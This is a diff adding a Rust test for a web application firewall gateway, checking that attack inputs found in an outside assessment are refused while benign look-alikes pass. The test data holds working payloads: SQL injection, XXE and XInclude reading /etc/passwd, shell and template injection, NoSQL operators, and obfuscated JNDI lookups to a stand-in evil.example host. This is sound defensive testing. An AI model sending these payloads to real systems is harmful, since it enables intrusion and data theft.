@@ -600,3 +600,115 @@ fn the_crs_engine_needs_its_build() {
     let err = String::from_utf8_lossy(&out.stderr);
     assert!(err.contains("--features modsecurity"), "{err}");
 }
+
+/// What an outside attack on the WAF found (each reached the upstream before): XML that
+/// is not one well-formed document, CDATA, comments splitting keywords, single-quoted
+/// attributes, internal entities, external DTDs and XInclude; multipart names, `filename*`,
+/// empty file names and doubled headers or boundaries; shell commands spelled through
+/// quotes or with numeric and host arguments; templates that call code; case lookups in
+/// JNDI; NoSQL operators as plain, dotted or cookie names. Each is refused now; the
+/// look-alikes next to them pass.
+#[tokio::test]
+async fn what_an_outside_attack_found_is_refused_and_look_alikes_pass() {
+    let gw = start(&format!("[server]\ndata_dir = \"DATA_DIR\"\n{ROUTES}")).await;
+    let xml = "application/xml";
+    let json = "application/json";
+    let multipart = "multipart/form-data; boundary=XB";
+    let part = |disposition: &str, value: &str| {
+        format!("--XB\r\nContent-Disposition: form-data; {disposition}\r\n\r\n{value}\r\n--XB--\r\n")
+    };
+    let refused: Vec<(&str, String, &str)> = vec![
+        (xml, "1' OR '1'='1".into(), "waf.body_unparsable"),
+        (xml, "<a>1' OR '1'='1".into(), "waf.body_unparsable"),
+        (xml, "<a><b></a>x".into(), "waf.body_unparsable"),
+        (xml, "<a><![CDATA[1' OR '1'='1]]></a>".into(), "waf.sqli"),
+        (xml, "<a>1' OR<!-- -->'1'='1</a>".into(), "waf.sqli"),
+        (xml, "<a b='../../../etc/passwd'>x</a>".into(), "waf.traversal"),
+        (xml, r#"<!DOCTYPE a [<!ENTITY e "1' OR '1'='1">]><a>&e;</a>"#.into(), "waf.xxe"),
+        (xml, r#"<!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a/>"#.into(), "waf.xxe"),
+        (
+            xml,
+            "<a xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='file:///etc/passwd' parse='text'/></a>".into(),
+            "waf.xxe",
+        ),
+        (multipart, part(r#"name="pass[$ne]""#, "x"), "waf.nosql"),
+        (multipart, part(r#"name="1' OR '1'='1""#, "x"), "waf.sqli"),
+        (multipart, part(r#"name="f"; filename="a.txt"; filename*=UTF-8''..%2F..%2Fetc%2Fx"#, "x"), "waf.traversal"),
+        (multipart, part(r#"name="q"; filename="""#, "1' OR '1'='1"), "waf.sqli"),
+        (
+            multipart,
+            "--XB\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a\"\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\nx\r\n--XB--\r\n".into(),
+            "waf.body_unparsable",
+        ),
+        (json, r#"{"v":"a;sleep 5"}"#.into(), "waf.rce"),
+        (json, r#"{"v":"a;w'h'o'am'i"}"#.into(), "waf.rce"),
+        (json, r#"{"v":"a;id "}"#.into(), "waf.rce"),
+        (json, r#"{"v":"a||sleep${IFS}5"}"#.into(), "waf.rce"),
+        (json, r#"{"v":"a;nslookup x.evil.example"}"#.into(), "waf.rce"),
+        (json, r#"{"v":"{% import os %}{{os.system('id')}}"}"#.into(), "waf.template"),
+        (json, r#"{"v":"<%= system('id') %>"}"#.into(), "waf.template"),
+        (json, r#"{"v":"{{['id']|filter('system')}}"}"#.into(), "waf.template"),
+        (json, r#"{"v":"${${lower:jndi:ldap}://x.evil.example/a}"}"#.into(), "waf.jndi"),
+        (json, r#"{"v":"${jnd${lower:i${x:k5:-:}}ldap://x.evil.example/a}"}"#.into(), "waf.jndi"),
+    ];
+    for (content_type, body, reason) in &refused {
+        let resp = post(&gw, "/guarded/x", content_type, body).await;
+        let status = if reason.ends_with("unparsable") { 400 } else { 403 };
+        problem(resp, status, reason).await;
+    }
+    for (query, reason) in [
+        ("$where=this.password.length%3E0", "waf.nosql"),
+        ("pass.$gt=", "waf.nosql"),
+    ] {
+        let resp = gw
+            .http
+            .get(gw.url(&format!("/guarded/x?{query}")))
+            .send()
+            .await
+            .unwrap();
+        problem(resp, 403, reason).await;
+    }
+    let resp = gw
+        .http
+        .get(gw.url("/guarded/x"))
+        .header("cookie", "pass[$ne]=x")
+        .send()
+        .await
+        .unwrap();
+    problem(resp, 403, "waf.nosql").await;
+    let resp = post(
+        &gw,
+        "/guarded/x",
+        "application/x-www-form-urlencoded",
+        r#"{"a":{"$ne":1}}"#,
+    )
+    .await;
+    problem(resp, 403, "waf.nosql").await;
+
+    // Look-alikes: prose with separators, documentation of lookups, ordinary XML and forms.
+    let benign: Vec<(&str, String)> = vec![
+        (json, r#"{"v":"Tickets; id required at the door"}"#.into()),
+        (json, r#"{"v":"Pick a size; type 2 is the large one"}"#.into()),
+        (json, r#"{"v":"Hello {{name}}, your total is ${price}"}"#.into()),
+        (
+            json,
+            r#"{"$schema":"https://json-schema.org/draft/2020-12/schema","$id":"x"}"#.into(),
+        ),
+        (
+            xml,
+            "<?xml version='1.0'?><order id='7'><note>O'Brien &amp; sons <![CDATA[<b>bold</b> text]]></note></order>"
+                .into(),
+        ),
+        (
+            multipart,
+            part(r#"name="upload"; filename="report.pdf""#, "%PDF-1.7 binary-ish content"),
+        ),
+    ];
+    for (content_type, body) in &benign {
+        assert_eq!(
+            post(&gw, "/guarded/x", content_type, body).await.status(),
+            200,
+            "{body}"
+        );
+    }
+}
